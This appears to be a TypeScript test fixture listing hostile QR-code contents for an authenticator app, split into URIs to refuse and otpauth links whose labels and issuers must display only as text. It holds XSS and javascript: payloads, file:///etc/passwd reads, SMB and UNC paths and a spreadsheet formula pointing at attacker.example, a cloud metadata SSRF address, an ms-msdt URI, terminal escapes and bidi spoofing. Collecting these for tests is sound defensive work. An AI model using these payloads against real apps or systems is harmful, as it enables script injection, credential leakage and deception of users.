/** What a QR code can say to make a reader act, show something else or stumble (row 6). `{AB12}` is a character by its number. */
const fire = 'top.fired=1'
const secret = 'secret=GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ'
const [bell, esc, nul] = ['\u0007', '\u001b', '\u0000']

/** Not an address of an authenticator at all: refused, whatever it asks for. */
export const refusedContents: readonly string[] = [
  `javascript:${fire}`,
  `JAVASCRIPT:${fire}//otpauth://totp/x?${secret}`,
  `data:text/html,<script>${fire}</script>`,
  'file:///etc/passwd',
  'file://attacker.example/share/x.lnk',
  'ms-msdt:/id PCWDiagnostic /skip force',
  'ms-settings:privacy',
  'ms-officecmd:{"id":3}',
  'search-ms:query=x&crumb=location:\\\\attacker.example',
  '\\\\attacker.example\\share\\x.exe',
  'smb://attacker.example/share',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:631/admin',
  'https://my.uscis.gov.attacker.example/login',
  'https://my.uscis.gov@attacker.example/',
  'intent://scan/#Intent;scheme=otpauth;package=x;end',
  'market://details?id=x',
  'tel:*%2306%23',
  'sms:+15550100?body=x',
  'mailto:x@attacker.example?attach=/etc/passwd',
  'WIFI:T:WPA;S:Firm;P:secret;;',
  'BEGIN:VCARD\nVERSION:3.0\nN:x\nURL:javascript:1\nEND:VCARD',
  'FIDO:/0123456789',
  'keydocket://open?vault=1',
  'app://keydocket/index.html#/settings',
  '=HYPERLINK("http://attacker.example","x")',
  `<img src=x onerror=${fire}>`,
  `otpauth-migration://offline?data=CjEKCkhello`,
  `otpauth://yaotp/x?${secret}`,
  `otpauth://hotp/x?${secret}&counter=1`,
  `otpauth://totp/x?${secret}&${secret}`,
  'otpauth://totp/x?secret=AAAA0189',
  `otpauth:javascript:${fire}`,
  `${nul}otpauth://totp/x`
]

/** Addresses of authenticators whose words carry something: read, and shown as nothing but words. */
export const readContents: readonly string[] = [
  `otpauth://totp/${encodeURIComponent(`<img src=x onerror=${fire}>`)}:a?${secret}&issuer=${encodeURIComponent(`<svg onload=${fire}>`)}`,
  `otpauth://totp/${encodeURIComponent(`javascript:${fire}`)}?${secret}&issuer=${encodeURIComponent(`"><script>${fire}</script>`)}`,
  `otpauth://totp/USCIS:${encodeURIComponent('\u202emoc.elpmaxe@m\u202c')}?${secret}&issuer=${encodeURIComponent('\u2067SICSU\u2069')}`,
  `otpauth://totp/USCIS:${encodeURIComponent(`a${bell}${esc}[2J${esc}]0;owned${bell}${nul}b`)}?${secret}&issuer=USCIS`,
  `otpauth://totp/${encodeURIComponent('=HYPERLINK("http://attacker.example","USCIS")')}?${secret}&issuer=${encodeURIComponent('@SUM(1)')}`,
  `otpauth://totp/USCIS:${'long'.repeat(600)}?${secret}&issuer=USCIS`,
  `otpauth://totp/USCIS:a?${secret}&issuer=USCIS&image=${encodeURIComponent('http://attacker.example/x.png')}&icon=file:///etc/passwd`,
  `otpauth://totp/USCIS:a?${secret}&issuer=USCIS&url=${encodeURIComponent(`javascript:${fire}`)}&${encodeURIComponent(`<b onclick=${fire}>`)}=1`,
  `otpauth://totp/USCIS:${encodeURIComponent('a\u200bb\u2066c\u00add\ufeffe\u{e0041}f')}?${secret}&issuer=US\u0421IS`,
  `otpauth://totp/USCIS:${encodeURIComponent('a\u2028b\u2029c\u0085d')}?${secret}&issuer=${encodeURIComponent('Z\u0351\u036b\u0343'.repeat(30))}`
]
